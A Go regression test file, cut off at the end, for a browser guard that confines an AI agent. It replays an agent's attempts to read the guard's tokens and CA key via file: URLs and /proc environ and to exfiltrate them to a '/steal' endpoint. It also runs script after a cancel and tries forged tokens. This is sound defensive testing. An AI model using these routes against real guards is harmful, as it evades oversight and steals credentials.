package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/stopgate/stopgate/control"
	"github.com/stopgate/stopgate/internal/testkit"
	"github.com/stopgate/stopgate/state"
)

// The attacks an agent holding nothing but its own guarded browser tried
// on a default stopgate serve (issue 23, findings 1, 4 and 5), each against
// the real binary and a real Chromium.

// cdpConn is a raw CDP client that keeps every byte the browser sent it:
// whatever an agent learns through the guard, it learns from these.
type cdpConn struct {
	t      *testing.T
	conn   *websocket.Conn
	ctx    context.Context
	next   int64
	frames chan []byte
	// readErr is why the reader stopped, once frames is closed.
	readErr error
	seen    bytes.Buffer
}

type cdpAnswer struct {
	ID     *int64          `json:"id"`
	Method string          `json:"method"`
	Params json.RawMessage `json:"params"`
	Result json.RawMessage `json:"result"`
	Error  *struct {
		Code    int    `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
	SessionID string `json:"sessionId"`
}

func dialGuard(t *testing.T, ws string) *cdpConn {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	t.Cleanup(cancel)
	conn, _, err := websocket.Dial(ctx, ws, nil)
	if err != nil {
		t.Fatalf("dial %s: %v", ws, err)
	}
	conn.SetReadLimit(256 << 20)
	t.Cleanup(func() { _ = conn.CloseNow() })
	c := &cdpConn{t: t, conn: conn, ctx: ctx, next: 100, frames: make(chan []byte, 1<<16)}
	// One reader for the connection's life: a read cut by its context
	// would close the connection.
	go func() {
		defer close(c.frames)
		for {
			_, data, err := conn.Read(ctx)
			if err != nil {
				c.readErr = err
				return
			}
			c.frames <- data
		}
	}()
	return c
}

// read is the next frame, or false when none came within d.
func (c *cdpConn) read(d time.Duration) (cdpAnswer, bool) {
	c.t.Helper()
	var data []byte
	select {
	case f, ok := <-c.frames:
		if !ok {
			c.t.Fatalf("the CDP connection closed: %v", c.readErr)
		}
		data = f
	case <-time.After(d):
		return cdpAnswer{}, false
	}
	c.seen.Write(data)
	c.seen.WriteByte('\n')
	var a cdpAnswer
	if err := json.Unmarshal(data, &a); err != nil {
		c.t.Fatalf("CDP frame is not JSON: %v: %.200s", err, data)
	}
	return a, true
}

// call sends a command and returns its answer; events on the way are kept
// in seen, and given to onEvent when it is set.
func (c *cdpConn) call(session, method string, params any) cdpAnswer {
	c.t.Helper()
	return c.callWith(session, method, params, nil)
}

func (c *cdpConn) callWith(session, method string, params any, onEvent func(cdpAnswer)) cdpAnswer {
	c.t.Helper()
	a, ok := c.callWithin(30*time.Second, session, method, params, onEvent)
	if !ok {
		c.t.Fatalf("no answer to %s in session %q within 30s", method, session)
	}
	return a
}

// callWithin is call, bounded by d: false when no answer came. A page that
// went away (a navigation that became a download closes its target) never
// answers what was sent in its session.
func (c *cdpConn) callWithin(d time.Duration, session, method string, params any, onEvent func(cdpAnswer)) (cdpAnswer, bool) {
	c.t.Helper()
	c.next++
	id := c.next
	b := testkit.CDPCommand(id, session, method, params)
	if err := c.conn.Write(c.ctx, websocket.MessageText, b); err != nil {
		c.t.Fatalf("write %s: %v", method, err)
	}
	end := time.Now().Add(d)
	for {
		a, ok := c.read(time.Until(end))
		if !ok {
			return cdpAnswer{}, false
		}
		if a.ID != nil && *a.ID == id {
			return a, true
		}
		if a.ID == nil && onEvent != nil {
			onEvent(a)
		}
	}
}

// try is call for an attacker, who goes on whatever happens: a command
// that gets no answer within 10s (its page went away) answers nothing.
func (c *cdpConn) try(session, method string, params any) cdpAnswer {
	c.t.Helper()
	started := time.Now()
	a, ok := c.callWithin(5*time.Second, session, method, params, nil)
	if d := time.Since(started); !ok || d > time.Second {
		c.t.Logf("%s took %s (answered: %v)", method, d.Round(time.Millisecond), ok)
	}
	return a
}

// settle reads the browser's events for d.
func (c *cdpConn) settle(d time.Duration, onEvent func(cdpAnswer)) {
	c.t.Helper()
	end := time.Now().Add(d)
	for left := time.Until(end); left > 0; left = time.Until(end) {
		a, ok := c.read(left)
		if !ok {
			return
		}
		if a.ID == nil && onEvent != nil {
			onEvent(a)
		}
	}
}

// page opens a new page at url ("" for about:blank) and attaches to it.
// The createTarget may be refused (a URL the guard does not load); then
// the page is "" and the answer says why.
func (c *cdpConn) page(target string) (session string, created cdpAnswer) {
	c.t.Helper()
	created = c.call("", "Target.createTarget", map[string]any{"url": target})
	var res struct {
		TargetID string `json:"targetId"`
	}
	if created.Error != nil || json.Unmarshal(created.Result, &res) != nil || res.TargetID == "" {
		return "", created
	}
	a := c.call("", "Target.attachToTarget", map[string]any{"targetId": res.TargetID, "flatten": true})
	var att struct {
		SessionID string `json:"sessionId"`
	}
	if a.Error != nil || json.Unmarshal(a.Result, &att) != nil || att.SessionID == "" {
		c.t.Fatalf("attach to the new page: %+v %s", a.Error, a.Result)
	}
	c.callWithin(5*time.Second, att.SessionID, "Page.enable", nil, nil)
	c.callWithin(5*time.Second, att.SessionID, "Runtime.enable", nil, nil)
	return att.SessionID, created
}

// look reads a page every way an agent would: its DOM with the frames'
// documents, its text by script, an MHTML snapshot, every resource.
func (c *cdpConn) look(session string) {
	c.t.Helper()
	c.settle(300*time.Millisecond, nil)
	doc, ok := c.callWithin(5*time.Second, session, "DOM.getDocument", map[string]any{"depth": -1, "pierce": true}, nil)
	if !ok {
		// The page went away (a navigation that became a download).
		c.t.Logf("a page to look at no longer answers (session %s)", session)
		return
	}
	var d struct {
		Root struct {
			NodeID int `json:"nodeId"`
		} `json:"root"`
	}
	if doc.Error == nil && json.Unmarshal(doc.Result, &d) == nil && d.Root.NodeID != 0 {
		c.try(session, "DOM.getOuterHTML", map[string]any{"nodeId": d.Root.NodeID})
	}
	c.try(session, "Runtime.evaluate", map[string]any{"returnByValue": true, "expression": `document.documentElement.outerHTML +
		[...document.querySelectorAll('iframe,object,embed')].map(f => { try { return f.contentDocument.documentElement.outerHTML } catch (e) { return '' } }).join('')`})
	c.try(session, "Page.captureSnapshot", map[string]any{"format": "mhtml"})
	tree := c.try(session, "Page.getResourceTree", nil)
	var rt struct {
		FrameTree struct {
			Frame struct {
				ID string `json:"id"`
			} `json:"frame"`
			Resources []struct {
				URL string `json:"url"`
			} `json:"resources"`
		} `json:"frameTree"`
	}
	if tree.Error == nil && json.Unmarshal(tree.Result, &rt) == nil {
		for _, r := range rt.FrameTree.Resources {
			c.try(session, "Page.getResourceContent", map[string]any{"frameId": rt.FrameTree.Frame.ID, "url": r.URL})
		}
	}
}

// frameID is the main frame of a page.
func (c *cdpConn) frameID(session string) string {
	c.t.Helper()
	a := c.try(session, "Page.getFrameTree", nil)
	var ft struct {
		FrameTree struct {
			Frame struct {
				ID string `json:"id"`
			} `json:"frame"`
		} `json:"frameTree"`
	}
	_ = json.Unmarshal(a.Result, &ft)
	return ft.FrameTree.Frame.ID
}

// secretSite is a site on loopback an agent's page can use: it keeps what
// pages send it (a stolen secret would arrive here), redirects where it is
// told, and serves a file as a download.
type secretSite struct {
	*httptest.Server
	mu       sync.Mutex
	received bytes.Buffer
	hits     map[string]int
}

func newSecretSite(t *testing.T) *secretSite {
	t.Helper()
	s := &secretSite{hits: map[string]int{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		fmt.Fprintf(&s.received, "%s %s\n%s\n", r.Method, r.URL, body)
		s.hits[r.URL.Path]++
		s.mu.Unlock()
		switch r.URL.Path {
		case "/favicon.ico":
			http.NotFound(w, r)
		case "/redirect":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		case "/download":
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Disposition", `attachment; filename="report.bin"`)
			io.WriteString(w, "a downloaded file\n")
		case "/ticker":
			// A page whose own script runs a function every 50 ms: the
			// line a conditional breakpoint is set on.
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, tickerHTML)
		default:
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<!doctype html><title>site</title><link rel="icon" href="data:,"><p id="p">site</p>`)
		}
	}))
	t.Cleanup(s.Close)
	return s
}

// tickerHTML's tick body is on line tickLine (0-based), as CDP counts.
const tickerHTML = `<!doctype html><title>ticker</title><link rel="icon" href="data:,">
<script>
function tick() {
  window.ticks = (window.ticks || 0) + 1;
}
setInterval(tick, 50);
</script><p>ticking</p>`

const tickLine = 3

func (s *secretSite) saw() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.received.String()
}

func (s *secretSite) hitsOf(path string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits[path]
}

// randomSecret is 32 random bytes in hex: text a page can show as it is.
func randomSecret(t *testing.T) string {
	t.Helper()
	var b [32]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b[:])
}

// TestBrowserCannotReadStopgateSecrets (issue 23, finding 1): an agent
// drives its own guarded browser, while its run is ACTIVE, at stopgate's
// secrets: the operator token, the run-token secret and the CA key in the
// data directory of a default serve (./stopgate-data in serve's working
// directory), and secrets serve was given in its environment. It tries
// every route through CDP we know of; none of the secrets may reach
// anything the agent can read: any CDP frame it receives, any request the
// pages send to a site, any file the browser saves where the agent looks.
//
// Routes: Page.navigate to file: (plain, /proc/self/cwd, /proc/PID/cwd and
// /proc/PID/root of serve, upper case, file://localhost, file: without
// slashes, a leading space, a tab inside, view-source:, filesystem:);
// /proc/self/environ and serve's /proc/PID/environ; Target.createTarget at
// file:, view-source:file: and a data: page framing file:;
// Page.setDocumentContent with an iframe, img, object, embed, meta refresh,
// fetch and XHR of file:; Runtime.evaluate fetch, synchronous XHR,
// window.open and location= to file:; an isolated world with universal
// access reading file: by XHR; Network.loadNetworkResource and
// Page.getResourceContent of file:; a redirect from the site to file:
// (navigation and fetch); Fetch.continueRequest to file: and
// Fetch.fulfillRequest redirecting to file:; Browser.setDownloadBehavior
// allow and Page.setDownloadBehavior allow, then the CA key navigated to
// (a download); DOM.setFileInputFiles of each secret read back with a
// FileReader; Input.dispatchDragEvent dropping the secrets on the page.
func TestBrowserCannotReadStopgateSecrets(t *testing.T) {
	chromium := testkit.Chromium(t)
	t.Run("InTheDataDirectory", func(t *testing.T) {
		dir := t.TempDir()
		data := filepath.Join(dir, "stopgate-data")
		s := startServeIn(t, dir, "--data-dir", data, "--chromium", chromium, "--allow-dest", "127.0.0.1")
		files := map[string]string{}
		for _, name := range []string{control.OperatorTokenFile, control.RunTokenSecretFile, "ca-key.pem"} {
			b, err := os.ReadFile(filepath.Join(data, name))
			if err != nil {
				t.Fatalf("serve's %s: %v", name, err)
			}
			files[name] = string(b)
		}
		secrets := map[string]string{
			"operator token":   strings.TrimSpace(files[control.OperatorTokenFile]),
			"run-token secret": strings.TrimSpace(files[control.RunTokenSecretFile]),
			// The key's body, whatever lines it is shown in.
			"CA key": pemBody(t, files["ca-key.pem"]),
		}
		ws, _, _ := strings.Cut(s.must(t, 0, "browser", "--run", "thief"), "\n")
		attackSecrets(t, s, ws, data, files, secrets)
	})
	t.Run("InTheEnvironment", func(t *testing.T) {
		dir := t.TempDir()
		data := filepath.Join(dir, "stopgate-data")
		operator, runSecret := randomSecret(t), randomSecret(t)
		s := startServeWith(t, dir, []string{"STOPGATE_CONTROL_TOKEN=" + operator, "STOPGATE_RUN_TOKEN_SECRET=" + runSecret},
			"--data-dir", data, "--chromium", chromium, "--allow-dest", "127.0.0.1")
		code, out, errOut := runBinary(t, []string{"STOPGATE_CONTROL=" + s.control, "STOPGATE_CONTROL_TOKEN=" + operator}, "browser", "--run", "thief")
		if code != 0 {
			t.Fatalf("stopgate browser: exit %d: %s%s\n%s", code, out, errOut, s.Log())
		}
		ws, _, _ := strings.Cut(out, "\n")
		key, err := os.ReadFile(filepath.Join(data, "ca-key.pem"))
		if err != nil {
			t.Fatal(err)
		}
		attackSecrets(t, s, ws, data, map[string]string{"ca-key.pem": string(key)},
			map[string]string{"operator token": operator, "run-token secret": runSecret, "CA key": pemBody(t, string(key))})
	})
}

// pemBody is the longest line of a PEM block's base64: present in any
// rendering of the file's text.
func pemBody(t *testing.T, pem string) string {
	t.Helper()
	var longest string
	for _, line := range strings.Split(pem, "\n") {
		if !strings.HasPrefix(line, "-----") && len(line) > len(longest) {
			longest = line
		}
	}
	if len(longest) < 32 {
		t.Fatalf("the CA key has no base64 body: %q", pem)
	}
	return longest
}

// attackSecrets runs every route against files (name → content) in data,
// and fails for each route that let the agent read any of secrets.
func attackSecrets(t *testing.T, s *server, ws, data string, files, secrets map[string]string) {
	site := newSecretSite(t)
	c := dialGuard(t, ws)
	pid := strconv.Itoa(s.Pid())
	downloads := t.TempDir()
	var names []string
	for name := range files {
		names = append(names, name)
	}
	slices.Sort(names)
	fileURL := func(name string) string { return "file://" + filepath.Join(data, name) }
	// The spellings of file: are tried on a secret Chromium shows as a page
	// (a .pem it saves as a download instead).
	first := filepath.Join(data, names[0])
	if _, ok := files[control.OperatorTokenFile]; ok {
		first = filepath.Join(data, control.OperatorTokenFile)
	}
	key := filepath.Join(data, "ca-key.pem")

	// route runs one way of reaching the secrets and says whether what the
	// agent could read since holds one: the CDP frames it received, the
	// requests its pages sent the site, the files in the downloads
	// directory.
	var leaked []string
	tried := 0
	route := func(name string, try func()) {
		t.Helper()
		tried++
		frames, sent := c.seen.Len(), len(site.saw())
		try()
		saved := savedFiles(downloads)
		for what, secret := range secrets {
			for where, text := range map[string]string{"a CDP frame": c.seen.String()[frames:], "a request to the site": site.saw()[sent:], "a downloaded file": saved} {
				if i := strings.Index(text, secret); i >= 0 {
					leaked = append(leaked, name)
					t.Errorf("%s: the %s reached %s: …%s…", name, what, where, text[max(0, i-200):min(len(text), i+len(secret)+50)])
				}
			}
		}
		// What was saved is the route's; the next one starts clean.
		entries, _ := os.ReadDir(downloads)
		for _, e := range entries {
			_ = os.RemoveAll(filepath.Join(downloads, e.Name()))
		}
	}

	// Navigations, in the spellings Chromium's URL parser reads as file:.
	nav, _ := c.page("")
	for _, name := range names {
		abs := filepath.Join(data, name)
		for _, p := range []string{abs, "/proc/self/cwd/stopgate-data/" + name, "/proc/" + pid + "/cwd/stopgate-data/" + name, "/proc/" + pid + "/root" + abs} {
			route("Page.navigate file://"+p, func() {
				c.try(nav, "Page.navigate", map[string]any{"url": "file://" + p})
				c.look(nav)
			})
		}
	}
	for _, u := range []string{"file:///proc/self/environ", "file:///proc/" + pid + "/environ", "view-source:file://" + first, "FILE://" + first,
		"file://localhost" + first, "file:" + first, " file://" + first, "fi\tle://" + first, "filesystem:file://" + first, "filesystem:file:///temporary" + first} {
		route(fmt.Sprintf("Page.navigate %q", u), func() {
			c.try(nav, "Page.navigate", map[string]any{"url": u})
			c.look(nav)
		})
	}

	// New targets at file:, and a data: page that frames it.
	frames := ""
	for _, name := range names {
		frames += fmt.Sprintf(`<iframe src="%s"></iframe>`, fileURL(name))
	}
	for _, u := range []string{"file://" + first, "view-source:file://" + first, "file://" + key, "data:text/html," + url.PathEscape(frames)} {
		route("Target.createTarget "+state.Clip(u, 60), func() {
			if p, _ := c.page(u); p != "" {
				c.look(p)
			}
		})
	}

	// A page on the site: what its own document and scripts can reach.
	web, _ := c.page("")
	home := func() {
		c.try(web, "Page.navigate", map[string]any{"url": site.URL + "/"})
		c.settle(300*time.Millisecond, nil)
	}
	home()
	route("Page.setDocumentContent with iframe, img, object, embed, fetch and XHR of file:", func() {
		var doc strings.Builder
		for _, name := range names {
			f := fileURL(name)
			fmt.Fprintf(&doc, `<iframe src=%q></iframe><img src=%q><object data=%q></object><embed src=%q>`, f, f, f, f)
			fmt.Fprintf(&doc, `<script>fetch(%q).then(r => r.text()).then(x => fetch('/steal', {method: 'POST', body: x})).catch(() => 0);
try { const x = new XMLHttpRequest(); x.open('GET', %q, false); x.send(); fetch('/steal', {method: 'POST', body: x.responseText}) } catch (e) {}</script>`, f, f)
		}
		c.try(web, "Page.setDocumentContent", map[string]any{"frameId": c.frameID(web), "html": doc.String()})
		c.look(web)
	})
	route("Page.setDocumentContent with a meta refresh to file:", func() {
		c.try(web, "Page.setDocumentContent", map[string]any{"frameId": c.frameID(web),
			"html": fmt.Sprintf(`<meta http-equiv="refresh" content="0;url=file://%s">`, first)})
		c.look(web)
	})
	for _, name := range names {
		f := fileURL(name)
		home()
		for what, script := range map[string]string{
			"fetch":                  fmt.Sprintf(`fetch(%q).then(r => r.text())`, f),
			"XHR":                    fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open('GET', %q, false); x.send(); return x.responseText })()`, f),
			"fetch of a redirect to": fmt.Sprintf(`fetch('/redirect?to=' + encodeURIComponent(%q)).then(r => r.text())`, f),
		} {
			route("Runtime.evaluate "+what+" "+f, func() {
				c.try(web, "Runtime.evaluate", map[string]any{"expression": script, "awaitPromise": true, "returnByValue": true})
			})
		}
		route("Runtime.evaluate window.open "+f, func() {
			before := c.pageTargets()
			c.try(web, "Runtime.evaluate", map[string]any{"expression": fmt.Sprintf(`window.open(%q); 1`, f)})
			c.settle(300*time.Millisecond, nil)
			for _, id := range c.pageTargets() {
				if !slices.Contains(before, id) {
					c.lookAtTarget(id)
				}
			}
		})
		route("Page.navigate to a site redirecting to "+f, func() {
			c.try(web, "Page.navigate", map[string]any{"url": site.URL + "/redirect?to=" + url.QueryEscape(f)})
			c.look(web)
		})
		home()
		route("Runtime.evaluate location.href = "+f, func() {
			c.try(web, "Runtime.evaluate", map[string]any{"expression": fmt.Sprintf(`location.href = %q; 1`, f)})
			c.look(web)
		})
		home()
		route("an isolated world with universal access reading "+f+" by XHR", func() {
			world := c.try(web, "Page.createIsolatedWorld", map[string]any{"frameId": c.frameID(web), "worldName": "w", "grantUniveralAccess": true})
			var w struct {
				ContextID int `json:"executionContextId"`
			}
			if world.Error == nil && json.Unmarshal(world.Result, &w) == nil {
				c.try(web, "Runtime.evaluate", map[string]any{"contextId": w.ContextID, "returnByValue": true,
					"expression": fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open('GET', %q, false); x.send(); return x.responseText })()`, f)})
			}
		})
		route("Network.loadNetworkResource "+f, func() {
			res := c.try(web, "Network.loadNetworkResource", map[string]any{"frameId": c.frameID(web), "url": f,
				"options": map[string]any{"disableCache": true, "includeCredentials": false}})
			var stream struct {
				Resource struct {
					Stream string `json:"stream"`
				} `json:"resource"`
			}
			if res.Error == nil && json.Unmarshal(res.Result, &stream) == nil && stream.Resource.Stream != "" {
				c.try(web, "IO.read", map[string]any{"handle": stream.Resource.Stream, "size": 1 << 20})
			}
		})
		route("Page.getResourceContent "+f, func() {
			c.try(web, "Page.getResourceContent", map[string]any{"frameId": c.frameID(web), "url": f})
		})
	}

	// Requests paused and sent elsewhere, or answered with a redirect.
	fetchPage, _ := c.page("")
	c.try(fetchPage, "Fetch.enable", map[string]any{"patterns": []map[string]any{{"urlPattern": "*"}}})
	for _, how := range []string{"Fetch.continueRequest to", "Fetch.fulfillRequest with a 302 to"} {
		route(how+" file://"+first, func() {
			fresh := true
			paused := func(a cdpAnswer) {
				if a.Method != "Fetch.requestPaused" {
					return
				}
				var p struct {
					RequestID string `json:"requestId"`
				}
				_ = json.Unmarshal(a.Params, &p)
				switch {
				case !fresh:
					c.try(fetchPage, "Fetch.continueRequest", map[string]any{"requestId": p.RequestID})
				case strings.HasPrefix(how, "Fetch.continueRequest"):
					if a := c.try(fetchPage, "Fetch.continueRequest", map[string]any{"requestId": p.RequestID, "url": "file://" + first}); a.Error != nil {
						// Not sent on: the page's request fails instead of waiting.
						c.try(fetchPage, "Fetch.failRequest", map[string]any{"requestId": p.RequestID, "errorReason": "Failed"})
					}
				default:
					c.try(fetchPage, "Fetch.fulfillRequest", map[string]any{"requestId": p.RequestID, "responseCode": 302,
						"responseHeaders": []map[string]string{{"name": "Location", "value": "file://" + first}}})
				}
				fresh = false
			}
			c.callWithin(10*time.Second, fetchPage, "Page.navigate", map[string]any{"url": site.URL + "/paused"}, paused)
			c.settle(time.Second, paused)
			c.look(fetchPage)
		})
	}
	c.try(fetchPage, "Fetch.disable", nil)

	// Downloads where the agent can read them: the CA key saved as a file.
	for _, m := range []struct{ session, method string }{{"", "Browser.setDownloadBehavior"}, {fetchPage, "Page.setDownloadBehavior"}} {
		route(m.method+" allow, then the CA key navigated to and a site's attachment", func() {
			c.try(m.session, m.method, map[string]any{"behavior": "allow", "downloadPath": downloads})
			c.try(fetchPage, "Page.navigate", map[string]any{"url": "file://" + key})
			c.try(fetchPage, "Page.navigate", map[string]any{"url": site.URL + "/download"})
			c.settle(time.Second, nil)
		})
	}

	// Files the agent names, given to the page, which reads them.
	upload, _ := c.page("")
	c.try(upload, "Page.navigate", map[string]any{"url": site.URL + "/"})
	c.settle(300*time.Millisecond, nil)
	c.try(upload, "Page.setDocumentContent", map[string]any{"frameId": c.frameID(upload), "html": `<input type="file" id="f" multiple>
<div id="drop" style="position:absolute;left:0;top:0;width:400px;height:400px"></div><pre id="out"></pre>
<script>
const show = files => { for (const f of files) f.text().then(x => { document.getElementById('out').textContent += x }) };
document.getElementById('f').addEventListener('change', e => show(e.target.files));
const d = document.getElementById('drop');
d.addEventListener('dragover', e => e.preventDefault());
d.addEventListener('drop', e => { e.preventDefault(); show(e.dataTransfer.files) });
</script>`})
	var uploads []string
	for _, name := range names {
		uploads = append(uploads, filepath.Join(data, name))
	}
	route("DOM.setFileInputFiles of the secrets, read with a FileReader", func() {
		root := c.try(upload, "DOM.getDocument", nil)
		var rd struct {
			Root struct {
				NodeID int `json:"nodeId"`
			} `json:"root"`
		}
		_ = json.Unmarshal(root.Result, &rd)
		input := c.try(upload, "DOM.querySelector", map[string]any{"nodeId": rd.Root.NodeID, "selector": "#f"})
		var in struct {
			NodeID int `json:"nodeId"`
		}
		_ = json.Unmarshal(input.Result, &in)
		c.try(upload, "DOM.setFileInputFiles", map[string]any{"nodeId": in.NodeID, "files": uploads})
		c.look(upload)
	})
	route("Input.dispatchDragEvent dropping the secrets on the page", func() {
		for _, typ := range []string{"dragEnter", "dragOver", "drop"} {
			c.try(upload, "Input.dispatchDragEvent", map[string]any{"type": typ, "x": 100, "y": 100,
				"data": map[string]any{"items": []any{}, "files": uploads, "dragOperationsMask": 1}})
		}
		c.look(upload)
	})
	route("every page open at the end", c.lookAtEveryPage)

	t.Logf("%d routes tried; the agent read %d bytes of CDP frames, the site received %d bytes; routes that leaked: %q",
		tried, c.seen.Len(), len(site.saw()), leaked)
}

// savedFiles is every file under dir, with its content.
func savedFiles(dir string) string {
	var saved strings.Builder
	_ = filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(p)
			fmt.Fprintf(&saved, "%s:\n%s\n", p, b)
		}
		return nil
	})
	return saved.String()
}

// lookAtEveryPage attaches to every page the browser has open and looks at
// it.
func (c *cdpConn) lookAtEveryPage() {
	c.t.Helper()
	for _, id := range c.pageTargets() {
		c.lookAtTarget(id)
	}
}

// pageTargets are the ids of the pages the browser has open.
func (c *cdpConn) pageTargets() []string {
	c.t.Helper()
	targets := c.try("", "Target.getTargets", nil)
	ids, _ := testkit.PageTargets(targets.Result) // none, when the browser did not answer
	return ids
}

func (c *cdpConn) lookAtTarget(id string) {
	c.t.Helper()
	a := c.try("", "Target.attachToTarget", map[string]any{"targetId": id, "flatten": true})
	var att struct {
		SessionID string `json:"sessionId"`
	}
	if a.Error == nil && json.Unmarshal(a.Result, &att) == nil && att.SessionID != "" {
		c.look(att.SessionID)
	}
}

// TestBrowserScriptAfterTheCancel (issue 23, finding 4): after the cancel,
// an agent whose script commands are refused tries to run script in its
// page another way: a conditional breakpoint on a line the page's own timer
// runs (the condition is arbitrary script), the old name of a guarded
// command (Page.addScriptToEvaluateOnLoad), and downloads turned on while
// the run was ACTIVE, so that the script could write a file. Each is
// refused with the run's state, no script runs, and no file is written.
func TestBrowserScriptAfterTheCancel(t *testing.T) {
	chromium := testkit.Chromium(t)
	site := newSecretSite(t)
	s := startServe(t, "--data-dir", t.TempDir(), "--chromium", chromium, "--sweep-interval", "1m")
	ws, _, _ := strings.Cut(s.must(t, 0, "browser", "--run", "late"), "\n")
	c := dialGuard(t, ws)
	page, _ := c.page("")
	downloads := t.TempDir()
	// While ACTIVE: downloads asked for, the page loaded.
	c.call("", "Browser.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": downloads})
	c.call(page, "Page.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": downloads})
	if a := c.call(page, "Page.navigate", map[string]any{"url": site.URL + "/ticker"}); a.Error != nil {
		t.Fatalf("navigate while ACTIVE: %+v", a.Error)
	}
	c.settle(500*time.Millisecond, nil)

	s.must(t, 0, "claim", "late", "hold", "--worker", "test")
	s.must(t, 0, "cancel", "late", "--reason", "operator stop")

	// The condition marks the page and writes a file through a download.
	const condition = `(document.title = 'script ran after the cancel',
		Object.assign(document.createElement('a'), {href: URL.createObjectURL(new Blob(['written after the cancel'])), download: 'late.txt'}).click(), false)`
	attempts := []struct {
		method string
		params map[string]any
	}{
		{"Debugger.enable", nil},
		{"Debugger.setBreakpointByUrl", map[string]any{"lineNumber": tickLine, "url": site.URL + "/ticker", "condition": condition}},
		{"Debugger.setBreakpointByUrl", map[string]any{"lineNumber": tickLine, "urlRegex": ".*", "condition": condition}},
		{"Page.addScriptToEvaluateOnLoad", map[string]any{"scriptSource": condition}},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": condition}},
		{"Page.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": downloads}},
	}
	for _, at := range attempts {
		a := c.call(page, at.method, at.params)
		if a.Error == nil || !strings.Contains(a.Error.Message, "stopgate refused "+at.method) || !strings.Contains(a.Error.Message, "run late is CANCELLING") {
			t.Errorf("%s after the cancel: %+v %s; want stopgate's refusal naming the run's state", at.method, a.Error, a.Result)
		}
	}
	c.settle(time.Second, nil)
	title := c.call(page, "DOM.getDocument", map[string]any{"depth": -1})
	if strings.Contains(string(title.Result), "script ran after the cancel") {
		t.Errorf("a script ran in the page after the cancel: the document is %.300s", title.Result)
	}
	entries, _ := os.ReadDir(downloads)
	for _, e := range entries {
		t.Errorf("a file was written after the cancel: %s", filepath.Join(downloads, e.Name()))
	}
}

// TestBrowserNeedsTheRunToken (issue 23, finding 5): with
// --require-run-token, a local process holding no credential finds the
// browser of run R (its guard endpoints and the websocket URL they hand
// out) and its egress listener (in the browser's command line). None of
// them lets it act or send as R; the URL stopgate browser prints, which
// carries R's token, still works.
func TestBrowserNeedsTheRunToken(t *testing.T) {
	chromium := testkit.Chromium(t)
	site := newSecretSite(t)
	s := startServe(t, "--data-dir", t.TempDir(), "--chromium", chromium, "--require-run-token", "--sweep-interval", "1m")
	ws, _, _ := strings.Cut(s.must(t, 0, "browser", "--run", "victim"), "\n")
	u, err := url.Parse(ws)
	if err != nil {
		t.Fatalf("stopgate browser printed %q: %v", ws, err)
	}
	parts := strings.Split(strings.TrimPrefix(u.Path, "/"), "/")
	if len(parts) != 6 || parts[0] != "run" || parts[1] != "victim" {
		t.Fatalf("stopgate browser printed %q, want ws://HOST/run/victim/CREDENTIAL/devtools/browser/ID", ws)
	}
	if !strings.HasPrefix(parts[2], "sg1.") {
		t.Errorf("stopgate browser printed %q: its credential %q is not run victim's token", ws, parts[2])
	}
	guard, id := u.Host, parts[5]

	// Without the token: no version endpoint, no list, no websocket.
	for _, path := range []string{"/run/victim/1/json/version", "/run/victim/0/json/list", "/run/victim/1/json"} {
		resp, err := http.Get("http://" + guard + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized || strings.Contains(string(body), "webSocketDebuggerUrl") {
			t.Errorf("GET %s without a token: %d %s; want 401", path, resp.StatusCode, body)
		}
	}
	s.must(t, 0, "admit", "other")
	other := s.must(t, 0, "token", "other")
	for _, cred := range []string{"1", "0", strings.TrimSpace(other), "sg1.forged.token"} {
		target := "ws://" + guard + "/run/victim/" + cred + "/devtools/browser/" + id
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		conn, resp, err := websocket.Dial(ctx, target, nil)
		cancel()
		if err == nil {
			_ = conn.CloseNow()
			t.Errorf("a CDP connection to run victim's browser with credential %.20q was accepted", cred)
			continue
		}
		if resp == nil || resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("CDP connection with credential %.20q: %v; want 401", cred, err)
		}
	}

	// The egress listener the browser was pointed at, from its command line.
	addr := browserProxyAddr(t, s.Pid())
	before := site.hitsOf("/stolen")
	if conn, err := net.DialTimeout("tcp", addr, 2*time.Second); err == nil {
		fmt.Fprintf(conn, "GET %s/stolen HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", site.URL, strings.TrimPrefix(site.URL, "http://"))
		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		status, _ := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		t.Logf("a local process on the browser's egress listener %s: %q", addr, strings.TrimSpace(status))
	} else {
		t.Logf("a local process cannot connect to the browser's egress listener %s: %v", addr, err)
	}
	if n := site.hitsOf("/stolen"); n != before {
		t.Errorf("a request sent by a local process through the browser's egress listener %s reached the site as run victim", addr)
	}
	if strings.Contains(s.must(t, 0, "audit", "victim"), "/stolen") {
		t.Errorf("run victim's audit records a request its browser never made:\n%s", s.must(t, 0, "audit", "victim"))
	}

	// The printed URL: it works, and what the guard hands out keeps it.
	c := dialGuard(t, ws)
	page, _ := c.page("")
